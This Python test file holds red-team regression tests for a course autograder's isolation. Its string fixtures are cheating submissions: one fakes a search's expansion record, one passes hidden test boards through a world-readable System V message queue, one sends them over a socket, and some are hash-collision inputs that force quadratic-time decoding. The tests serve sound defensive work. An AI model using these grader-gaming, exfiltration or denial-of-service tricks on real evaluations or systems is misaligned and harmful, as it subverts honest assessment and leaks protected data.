"""Red team, round 2 (issue 31): submissions that attack the grading of chapter 03's `Recorder` cases and the
"user" isolation.

Each test reproduces an attack and asserts what the grader should do; each was closed, and says how. The last one
closed: a search run on the worker's own copy of the problem, which now holds only tokens for its states.
"""

from __future__ import annotations

import base64
import pickle

import nbformat
import pytest
from test_grader import _reference, _scores, _submission, _why, grade_apart, small_chapter

import puzzlekit
from puzzlekit.course.exercise_cases import Recorder
from puzzlekit.course.grader import ChapterGrader, run, safe
from puzzlekit.course.grader.safe import encode

#: Exercise 2 with a case judged by `PathWithin`, as chapter 03's hardest and hidden cases are: a board 18 moves
#: away, on which bidirectional search expands 521 states and breadth-first search from the start 17,353.
PATH_WITHIN_CHECK = '''def shortest(problem):
    return PathOf(problem, breadth_first_search(problem).length)


deep = Recorder(puzzlekit.SlidingPuzzle(walk(60, 3)))
both = Recorder(deep.problem)
deep_moves = len(textbook.bidirectional_breadth_first(both)) - 1
deep_most = 2 * (len(both.expanded) + len(both.expanded_backward)) + 50
check(my_bidirectional, [((problem,), shortest(problem)) for problem in problems]
      + [((deep,), PathWithin(deep, deep_moves, most=deep_most))], forbid=[puzzlekit.search])'''

#: The wrong answer: breadth-first search from the start only, asking the problem it was given (too many expansions).
ONE_SIDED = '''def my_bidirectional(problem):
    "Breadth-first search from the start only: not bidirectional."
    local = problem
    start = local.initial
    parents, frontier = {start: None}, deque([start])
    while frontier:
        state = frontier.popleft()
        if local.is_goal(state):
            path = path_to(parents, state)
            return path
        for _, child in local.successors(state):
            if child not in parents:
                parents[child] = state
                frontier.append(child)
    return None
'''

#: The same wrong search run on the problem the `Recorder` stands for (`problem.problem`, once held in the worker),
#: then the grading process asked only for the successors of the path's states: every move had an asked end, and
#: the record held 18 expansions, far below the 1,092 allowed. The worker now holds no problem: states are tokens
#: (`run._Asked`), and a move is made only by asking.
_LOCAL = "    local = getattr(problem, 'problem', problem)   # the Recorder's own problem\n"
_ASKED = "            for step in path[:-1]:\n                problem.successors(step)   # asked: recorded\n"
ONE_SIDED_ASKING_ALONG_THE_PATH = ONE_SIDED.replace("    local = problem\n", _LOCAL).replace(
    "            return path\n", _ASKED + "            return path\n")


@pytest.fixture(scope="module")
def path_within_chapter(tmp_path_factory):
    notebook = small_chapter()
    cell = next(cell for cell in notebook.cells if cell.source.startswith("def shortest(problem)"))
    cell.source = PATH_WITHIN_CHECK
    path = tmp_path_factory.mktemp("chapter") / "03_uninformed_search.ipynb"
    nbformat.write(notebook, path)
    return path


def scores_as_the_one_sided_search(path_within_chapter, cheat: str) -> None:
    """`cheat`, an answer to exercise 2, scores what the honest one-sided search scores: 0."""
    grader = ChapterGrader(path_within_chapter, secret="a class's secret", cell_time_limit=60,
                           notebook_time_limit=300)
    reference = _reference(path_within_chapter)
    submissions = [_submission(path_within_chapter, dict(reference, my_bidirectional=answer))
                   for answer in (ONE_SIDED, cheat)]
    wrong, cheated = grade_apart(grader, submissions)
    assert _scores(wrong)["my_bidirectional"] == 0, _why(wrong)
    assert _scores(cheated)["my_bidirectional"] == _scores(wrong)["my_bidirectional"], _why(cheated)


def test_a_one_sided_search_run_in_the_worker_scores_what_it_scores_asking(path_within_chapter):
    scores_as_the_one_sided_search(path_within_chapter, ONE_SIDED_ASKING_ALONG_THE_PATH)


def test_an_ask_of_a_state_that_is_no_board_is_not_kept_nor_decoded(monkeypatch):
    """Red team 2: asks of states that are no board (up to 64 MB each) were kept in the grading process's memory, and
    a set of ints whose hashes collide (multiples of 2**61 - 1) was decoded whole, in time quadratic in its size. A
    worker now asks by the tokens the grading process handed out: anything else is refused unread."""
    decoded, real = [], run.decode
    monkeypatch.setattr(run, "decode", lambda data: decoded.append(data) or real(data))
    board = (1, 2, 3, 4, 0, 5, 7, 8, 6)
    recorder = Recorder(puzzlekit.SlidingPuzzle(board))
    asked = {0: run._Asked(recorder)}
    colliding = {"t": "set", "v": [number * (2**61 - 1) for number in range(1, 4000)]}  # all of hash 0
    for state in (encode(tuple("x" * 100_000 for _ in board)), "x" * 100_000, {"t": "tuple", "v": [colliding]},
                  encode(board)):
        answer = run._answer(asked, {"op": "ask", "id": 0, "argument": 0, "method": "successors", "state": state}, 1)
        assert pickle.loads(base64.b64decode(answer["value"]))[0] == "raised"
    assert recorder.expanded == [] and decoded == []


#: System V IPC, which outlives the processes that made it and is in no shared folder: the first worker (exercises 1
#: and 2) posts the start of every board my_breadth_first is given, on a message queue any user may read; the second
#: (exercise 3, forbidding other functions: another worker, started after the first one's hidden cases) reads them
#: back and raises them in a visible case, whose message the report shows.
_IPC = '''import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_KEY = 0x31ED2


class _Message(ctypes.Structure):
    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 64)]


def _queue():
    return _libc.msgget(_KEY, 0o1000 | 0o666)   # IPC_CREAT, for every user
'''

_POSTING_BFS = _IPC + '''

def my_breadth_first(problem, _seen=[]):
    _seen.append(1)
    if len(_seen) > 8:   # the calls after the 8 visible cases: the hidden ones
        board = "".join(map(str, problem.initial)) if isinstance(problem.initial, tuple) else str(problem.initial)
        _libc.msgsnd(_queue(), ctypes.byref(_Message(1, board.encode())), 64, 0)
    return _reference_bfs(problem)
'''

_READING_BRANCHING = _IPC + '''

def effective_branching_factor(expanded, depth):
    boards, message = [], _Message()
    while _libc.msgrcv(_queue(), ctypes.byref(message), 64, 0, 0o4000) > 0:   # IPC_NOWAIT
        boards.append(message.text.decode())
    raise ValueError("hidden boards: " + " ".join(boards))
'''


def _remove_queue() -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.msgget(0x31ED2, 0)
    if queue >= 0:
        libc.msgctl(queue, 0, None)  # IPC_RMID


def test_hidden_boards_do_not_reach_a_later_workers_message_through_ipc(tmp_path):
    """Red team 2: under 'user' isolation a System V message queue outlived its worker and carried the hidden boards
    to the next worker's visible message. A worker now has an IPC namespace of its own, or (where a container refuses
    namespaces) its user id's IPC objects are removed with it."""
    from puzzlekit.course.grader import isolation

    if not isolation.usable("user"):
        pytest.skip("'user' isolation does not work on this machine")
    path = tmp_path / "03_uninformed_search.ipynb"
    nbformat.write(small_chapter(), path)
    grader = ChapterGrader(path, secret="a class's secret", cell_time_limit=60, notebook_time_limit=300,
                           isolation="user")
    reference = _reference(path)
    bfs = reference["my_breadth_first"].replace("def my_breadth_first(problem):", "def _reference_bfs(problem):")
    answers = dict(reference, my_breadth_first=bfs + "\n\n" + _POSTING_BFS,
                   effective_branching_factor=_READING_BRANCHING)
    _remove_queue()
    try:
        report = grader.grade(_submission(path, answers))
    finally:
        _remove_queue()
    hidden = grader._recorded()["check-my_breadth_first"]["hidden"]
    boards = ["".join(map(str, arguments[0].initial)) for arguments, _ in hidden]
    shown = _why(report)
    assert not [board for board in boards if board in shown], shown


_SENDING_BFS = '''import socket


def my_breadth_first(problem, _seen=[]):
    _seen.append(1)
    if len(_seen) > 8:   # the hidden cases: sent out to the student's own machine
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
                connection.sendall(repr(problem.initial).encode() + b"\\n")
        except OSError:
            pass
    return _reference_bfs(problem)
'''


def test_a_worker_run_as_another_user_reaches_no_network(tmp_path):
    """Red team 2: a 'user' worker sent the hidden cases' arguments to a listener on loopback (and reached pypi.org).
    It now runs in a network namespace of its own, where the machine allows one."""
    import socket
    import threading

    from puzzlekit.course.grader import isolation

    if not isolation.usable("user"):
        pytest.skip("'user' isolation does not work on this machine")
    if not isolation.namespaces():
        pytest.xfail("this machine gives 'user' workers no namespaces of their own: they share its network")
    path = tmp_path / "03_uninformed_search.ipynb"
    nbformat.write(small_chapter(), path)
    grader = ChapterGrader(path, secret="a class's secret", cell_time_limit=60, notebook_time_limit=300,
                           isolation="user")
    received = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(1)

        def listen():
            while not stop.is_set():
                try:
                    connection, _ = server.accept()
                except OSError:
                    continue
                with connection:
                    received.append(connection.recv(1000))

        stop = threading.Event()
        listener = threading.Thread(target=listen, daemon=True)
        listener.start()
        reference = _reference(path)
        bfs = reference["my_breadth_first"].replace("def my_breadth_first(problem):", "def _reference_bfs(problem):")
        answers = dict(reference, my_breadth_first=bfs + "\n\n" + _SENDING_BFS.replace(
            "PORT", str(server.getsockname()[1])))
        report = grader.grade(_submission(path, answers))
        stop.set()
        listener.join()
    assert _scores(report)["my_breadth_first"] == 3, _why(report)
    assert received == [], received


def test_a_reply_of_keys_that_share_their_hashes_is_refused_unbuilt():
    """A worker's reply (a result, not only an ask) of a set or dict whose keys collide is refused, not built in
    time quadratic in its size."""
    colliding = [number * (2**61 - 1) for number in range(1, 20_000)]
    for data in ({"t": "set", "v": colliding}, {"t": "dict", "v": [[key, 0] for key in colliding]}):
        with pytest.raises(ValueError, match="share their hashes"):
            safe.decode(data)
    assert safe.decode({"t": "set", "v": list(range(20_000))}) == set(range(20_000))


def test_a_call_that_asks_too_often_is_refused_past_the_limit():
    board = (1, 2, 3, 4, 0, 5, 7, 8, 6)
    recorder = Recorder(puzzlekit.SlidingPuzzle(board))
    asked = {0: run._Asked(recorder)}
    message = {"op": "ask", "id": 0, "argument": 0, "method": "successors", "state": asked[0].initial}
    for asks in (1, run._MAX_ASKS, run._MAX_ASKS + 1):
        outcome, value, _ = pickle.loads(base64.b64decode(run._answer(asked, message, asks)["value"]))
        assert (outcome == "raised") == (asks > run._MAX_ASKS), value
    assert recorder.expanded == [board, board]
